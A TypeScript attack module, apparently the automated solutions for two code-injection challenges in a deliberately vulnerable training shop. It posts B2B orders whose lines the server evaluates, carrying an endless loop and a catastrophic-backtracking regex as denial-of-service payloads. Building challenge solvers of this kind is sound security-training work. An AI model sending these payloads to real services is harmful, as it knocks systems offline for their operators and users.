import type { AttackTarget, Attacks } from '../../lib/attacks'
import { authorised, registerAndLogIn } from '../../testing/attack-steps'

/** An order whose lines the B2B API evaluates as code (documented at /api-docs), sent by any logged-in customer. */
export async function placeB2bOrder(target: AttackTarget, orderLinesData: string) {
  const customer = await registerAndLogIn(target)
  return authorised(target, customer).post('/b2b/v2/orders').set('Accept', 'application/json').send({ cid: 'JS0815DE', orderLinesData })
}

export const ENDLESS_LOOP = '(function dos() { while (true); })()'
/** Catastrophic backtracking: far beyond the two seconds the sandbox allows. */
export const CATASTROPHIC_REGEX = `/((a+)+)b/.test('${'a'.repeat(40)}')`

export const b2bAttacks = {
  // the loop guard stops it (400), which is what this challenge wants to see
  rceChallenge: (target) => placeB2bOrder(target, ENDLESS_LOOP),
  // the time limit stops it (503)
  rceOccupyChallenge: (target) => placeB2bOrder(target, CATASTROPHIC_REGEX),
} satisfies Attacks
